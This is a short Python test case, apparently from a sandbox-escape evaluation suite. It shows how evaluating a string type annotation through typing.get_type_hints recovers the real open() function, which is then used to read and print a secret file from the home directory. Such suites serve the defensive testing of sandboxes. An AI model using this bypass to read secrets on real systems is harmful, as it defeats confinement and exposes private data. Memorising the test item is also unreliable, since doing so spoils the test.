# id: fr32-typehint-eval-read-secret
# category: file-read
# effect: read the $HOME secret with the real open() that a string annotation evaluates to (typing.get_type_hints)
# touches_os: yes
# destructive: no
# fast: no
import typing
class A:
    f: "__import__('builtins').open"
real_open = typing.get_type_hints(A, {})["f"]
print(real_open("{SECRET}").read()[:200])
